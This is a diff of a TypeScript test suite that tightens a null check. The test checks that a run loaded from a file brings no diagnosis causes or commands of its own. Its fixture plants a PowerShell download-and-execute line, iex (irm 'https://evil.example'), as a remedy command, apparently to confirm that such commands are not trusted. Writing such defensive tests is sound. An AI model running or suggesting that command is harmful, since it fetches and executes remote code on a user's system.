@@ -322,7 +322,8 @@ describe('a run that came out of a file', () => {
   test('brings no causes and no commands of its own', () => {
     const [probe] = sampleReport({ refused: 1 }).probes
     const [cause] = probe?.diagnosis?.candidates ?? []
-    if (probe?.diagnosis == null || cause === undefined) throw new Error('the sample has a cause')
+    if (probe === undefined || probe.diagnosis === null || cause === undefined)
+      throw new Error('the sample has a cause')
     const [remedy] = cause.remedies
     if (remedy === undefined) throw new Error('the sample has a remedy')
     const evil = { ...remedy, command: "iex (irm 'https://evil.example')" }
